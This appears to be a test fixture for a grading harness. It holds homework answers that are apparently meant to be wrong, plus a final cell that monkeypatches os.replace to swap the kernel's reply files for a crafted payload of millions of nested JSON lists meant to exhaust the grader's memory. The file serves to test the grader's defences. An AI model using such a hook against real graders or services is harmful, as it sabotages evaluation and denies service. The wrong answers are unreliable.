# Attack: every reply the kernel sends is replaced by a crafted message of about 15 MB whose JSON
# is millions of empty lists: decoding it would cost the grader about 40 times its size in
# memory. The codec caps the header, the JSON values and their depth before decoding anything.
# no-better-than: attack-baseline-wrong
# expect: q1_ema_tests=less
# expect: q1_formulas_tests=less
# %% q1_ema
def ema(g, beta):
    m = torch.zeros((g.shape[0] + 1, *g.shape[1:]), dtype=g.dtype)
    for step in range(g.shape[0]):
        m[step + 1] = (1 - beta) * m[step] + beta * g[step]
    return m
# %% q1_formulas
mean_mk = mu
var_mk = sigma**2 * (1 - beta) / (1 + beta) * (1 - beta**(2 * k))
var_limit = sigma**2
# %% extra
import json as _json, os as _os, struct as _struct
_replace = _os.replace
_tree = "[" + "[]," * 5_000_000 + "[]]"
_header = _json.dumps({"__metadata__": {"tree": _tree}}).encode()
_crafted = _struct.pack("<Q", len(_header)) + _header
del _tree, _header
def _amplify(source, target, *args, **kwargs):
    if "reply-" in _os.path.basename(str(target)):
        with open(source, "wb") as handle:
            handle.write(_crafted)
    return _replace(source, target, *args, **kwargs)
_os.replace = _amplify
